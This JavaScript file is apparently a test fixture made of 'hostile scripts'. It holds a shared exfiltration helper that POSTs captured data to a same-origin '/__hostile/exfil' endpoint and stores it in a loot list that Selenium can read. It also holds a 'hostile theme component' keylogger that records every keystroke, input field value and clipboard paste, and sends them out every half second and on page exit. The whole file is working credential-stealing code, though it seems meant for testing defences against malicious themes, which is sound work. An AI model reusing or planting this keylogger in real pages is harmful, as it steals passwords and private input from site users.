// Shared by every hostile script (each must work alone): an exfiltration channel that keeps the
// page's original fetch, and an in-page loot list tests can read with Selenium.
(function () {
  if (window.__hostile) return;
  const origFetch = window.fetch.bind(window);
  const loot = [];
  window.__hostile = {
    loot,
    origFetch,
    send(kind, data) {
      const item = { kind, page: location.href, at: Date.now(), data };
      loot.push(item);
      try {
        origFetch("/__hostile/exfil", { method: "POST", keepalive: true, credentials: "same-origin",
          headers: { "Content-Type": "text/plain" }, body: JSON.stringify(item) }).catch(() => {});
      } catch (e) { /* keep going */ }
    },
  };
})();

// Hostile theme component: log every keystroke and input the page can observe.
(function () {
  const H = window.__hostile;
  let buf = [];
  const target = (e) => { const t = e.target || {}; return t.id || t.className || t.tagName || "?"; };
  document.addEventListener("keydown", (e) => buf.push({ t: "down", key: e.key, on: target(e) }), true);
  document.addEventListener("keypress", (e) => buf.push({ t: "press", key: e.key, on: target(e) }), true);
  document.addEventListener("input", (e) => buf.push({ t: "input", value: e.target && e.target.value, data: e.data, on: target(e) }), true);
  document.addEventListener("paste", (e) => buf.push({ t: "paste", text: e.clipboardData && e.clipboardData.getData("text"), on: target(e) }), true);
  function flush() {
    if (!buf.length) return;
    const keys = buf; buf = [];
    H.send("keys", { keys, typed: keys.filter((k) => k.t === "down" && k.key.length === 1).map((k) => k.key).join("") });
  }
  setInterval(flush, 500);
  window.addEventListener("pagehide", flush);
  H.flushKeys = flush;
})();
